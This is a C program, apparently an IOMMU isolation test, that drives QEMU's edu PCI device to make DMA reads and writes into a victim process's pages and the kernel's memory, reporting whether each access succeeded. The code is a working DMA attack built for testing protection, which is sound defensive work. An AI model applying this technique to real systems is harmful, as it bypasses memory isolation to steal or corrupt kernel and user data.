/* SPDX-License-Identifier: BSD-2-Clause */

/*
 * A DMA attack. This program takes the edu device, to which no driver is bound, and has it read
 * and write memory that was never mapped for it: pages of another program and of the kernel. It
 * is the same program with and without an IOMMU, and says of each attempt whether it succeeded;
 * which outcome is the right one is for the watcher to say.
 *
 * The device cannot show its own buffer. What it read is therefore taken out by having it write
 * the buffer to a page of this program, which is one more access to memory not mapped for it.
 *
 * Status: 0 if every attempt was stopped, 3 if every attempt succeeded, 1 otherwise.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>

#include "edu.h"
#include "pci.h"
#include "physmem.h"
#include "report.h"
#include "secret.h"

enum { TARGETS = 4, KERNEL_TRIES = 8 };

enum {
    /* Read attacks fill the first part of the device's buffer, writes come from the second. */
    WRITE_FROM_OFFSET = EDU_BUFFER_BYTES / 2,
    WRITE_USER_BYTES = EDU_BUFFER_BYTES / 2,
    WRITE_KERNEL_BYTES = SECRET_BYTES,
};

enum { STATUS_ALL_SUCCEEDED = 3 };

struct target {
    const char *name;
    bool is_kernels;
    enum secret_place place;
    uint64_t physical;
    unsigned char secret[SECRET_BYTES];
};

struct attack {
    char device[PCI_NAME_SIZE];
    volatile void *bar;
    struct victim victim;
    struct kernel_secret kernel[SECRET_PLACES];
    struct target targets[TARGETS];
    unsigned stopped;
    unsigned succeeded;
};

static void take_device(struct attack *attack)
{
    char driver[32];

    if (!pci_find(EDU_VENDOR, EDU_DEVICE, attack->device)) {
        give_up("attack-device", "no edu device (%04x:%04x) in this machine", EDU_VENDOR,
                EDU_DEVICE);
    }
    if (pci_read_link(attack->device, "driver", driver, sizeof(driver))) {
        give_up("attack-device", "%s is in use by driver %s", attack->device, driver);
    }
    if (!pci_write_attribute(attack->device, "enable", "1") ||
        !pci_set_command(attack->device, PCI_COMMAND_MEMORY_SPACE | PCI_COMMAND_BUS_MASTER)) {
        give_up("attack-device", "cannot enable %s: %s", attack->device, strerror(errno));
    }
    attack->bar = pci_map_bar0(attack->device, EDU_BAR_BYTES);
    if (attack->bar == NULL || !edu_is_there(attack->bar)) {
        give_up("attack-device", "cannot use BAR 0 of %s: %s", attack->device, strerror(errno));
    }
}

static bool kernel_secrets_found(const struct attack *attack)
{
    return attack->kernel[SECRET_BELOW].physical != 0 && attack->kernel[SECRET_ABOVE].physical != 0;
}

static void look_for_kernel_secrets(struct attack *attack)
{
    if (!kernel_secrets_add(attack->kernel)) {
        give_up("attack-memory", "cannot find keys in the kernel's memory: %s", strerror(errno));
    }
}

static void ask_victim(const struct attack *attack, enum victim_question question,
                       struct victim_answer *answer)
{
    if (!victim_ask(&attack->victim, question, answer)) {
        give_up("attack-memory", "the victim program died");
    }
}

static void fill_target(struct target *target, const struct attack *attack,
                        const struct victim_answer *answer)
{
    const struct kernel_secret *kernel = &attack->kernel[target->place];

    target->physical = target->is_kernels ? kernel->physical : answer->physical[target->place];
    memcpy(target->secret, target->is_kernels ? kernel->secret : answer->secret[target->place],
           SECRET_BYTES);
    if (target->physical == 0) {
        give_up("attack-memory", "no page found for %s", target->name);
    }
    tell("info", "%s is at physical address 0x%llx", target->name,
         (unsigned long long)target->physical);
}

/*
 * The kernel takes memory from below first, so that some of its keys come to lie above only while
 * the victim holds what is below.
 */
static void choose_targets(struct attack *attack)
{
    static const char *const names[TARGETS] = {"user-below-256M", "user-above-256M",
                                               "kernel-below-256M", "kernel-above-256M"};
    struct victim_answer answer;

    look_for_kernel_secrets(attack);
    if (!victim_start(&attack->victim)) {
        give_up("attack-memory", "cannot start the victim program: %s", strerror(errno));
    }
    ask_victim(attack, VICTIM_LOOK, &answer);
    for (int i = 0; i < KERNEL_TRIES && !kernel_secrets_found(attack); i++) {
        ask_victim(attack, VICTIM_MORE, &answer);
        look_for_kernel_secrets(attack);
    }
    ask_victim(attack, VICTIM_TRIM, &answer);
    for (unsigned i = 0; i < TARGETS; i++) {
        attack->targets[i] = (struct target){
            .name = names[i], .place = i % SECRET_PLACES, .is_kernels = i >= SECRET_PLACES};
        fill_target(&attack->targets[i], attack, &answer);
    }
}

/* Tells the watcher which access was made, and whether it reached memory. */
static void tell_access(const struct attack *attack, enum edu_direction direction,
                        uint64_t physical, bool reached)
{
    tell(reached ? "reached" : "refused", "%s %s 0x%llx", attack->device,
         direction == EDU_TO_MEMORY ? "write" : "read", (unsigned long long)physical);
}

static void tell_outcome(struct attack *attack, const char *kind, const struct target *target,
                         bool succeeded)
{
    tell("attack", "%s %s 0x%llx %s", kind, target->name, (unsigned long long)target->physical,
         succeeded ? "succeeded" : "stopped");
    *(succeeded ? &attack->succeeded : &attack->stopped) += 1;
}

static void run_transfer(const struct attack *attack, const struct edu_transfer *transfer)
{
    if (!edu_run(attack->bar, transfer)) {
        give_up("attack-device", "%s did not end a transfer", attack->device);
    }
}

/* Has the device read every secret, then takes its buffer out and looks for them. */
static void attack_by_reading(struct attack *attack)
{
    unsigned char *page = mmap(NULL, PAGE_BYTES, PROT_READ | PROT_WRITE,
                               MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);
    unsigned char before[PAGE_BYTES];

    if (page == MAP_FAILED) {
        give_up("attack-memory", "no page of our own: %s", strerror(errno));
    }
    memset(page, 0xee, PAGE_BYTES);
    memcpy(before, page, PAGE_BYTES);
    for (unsigned i = 0; i < TARGETS; i++) {
        run_transfer(attack, &(struct edu_transfer){.direction = EDU_FROM_MEMORY,
                                                    .bus_address = attack->targets[i].physical,
                                                    .buffer_offset = i * SECRET_BYTES,
                                                    .count_bytes = SECRET_BYTES});
    }
    uint64_t own = physical_address_of(page);
    run_transfer(attack, &(struct edu_transfer){.direction = EDU_TO_MEMORY,
                                                .bus_address = own,
                                                .count_bytes = EDU_BUFFER_BYTES});
    for (unsigned i = 0; i < TARGETS; i++) {
        const struct target *target = &attack->targets[i];
        bool leaked = memcmp(page + i * SECRET_BYTES, target->secret, SECRET_BYTES) == 0;
        tell_access(attack, EDU_FROM_MEMORY, target->physical, leaked);
        tell_outcome(attack, "read", target, leaked);
    }
    tell_access(attack, EDU_TO_MEMORY, own, memcmp(page, before, PAGE_BYTES) != 0);
    munmap(page, PAGE_BYTES);
}

static bool target_is_unchanged(const struct attack *attack, const struct target *target)
{
    struct victim_answer answer;

    if (target->is_kernels) {
        return kernel_secret_unchanged(&attack->kernel[target->place]);
    }
    ask_victim(attack, VICTIM_LOOK, &answer);
    if (answer.physical[target->place] != target->physical) {
        give_up("attack-memory", "the victim's page was moved");
    }
    return answer.unchanged[target->place];
}

static void attack_by_writing(struct attack *attack)
{
    for (unsigned i = 0; i < TARGETS; i++) {
        const struct target *target = &attack->targets[i];

        if (!target_is_unchanged(attack, target)) {
            give_up("attack-memory", "%s changed before it was attacked", target->name);
        }
        run_transfer(attack,
                     &(struct edu_transfer){.direction = EDU_TO_MEMORY,
                                            .bus_address = target->physical,
                                            .buffer_offset = WRITE_FROM_OFFSET,
                                            .count_bytes = target->is_kernels ? WRITE_KERNEL_BYTES
                                                                              : WRITE_USER_BYTES});
        bool changed = !target_is_unchanged(attack, target);
        tell_access(attack, EDU_TO_MEMORY, target->physical, changed);
        tell_outcome(attack, "write", target, changed);
    }
}

int main(void)
{
    static struct attack attack;

    take_device(&attack);
    choose_targets(&attack);
    attack_by_reading(&attack);
    attack_by_writing(&attack);
    victim_stop(&attack.victim);
    if (attack.succeeded == 0) {
        return EXIT_SUCCESS;
    }
    return attack.stopped == 0 ? STATUS_ALL_SUCCEEDED : EXIT_FAILURE;
}
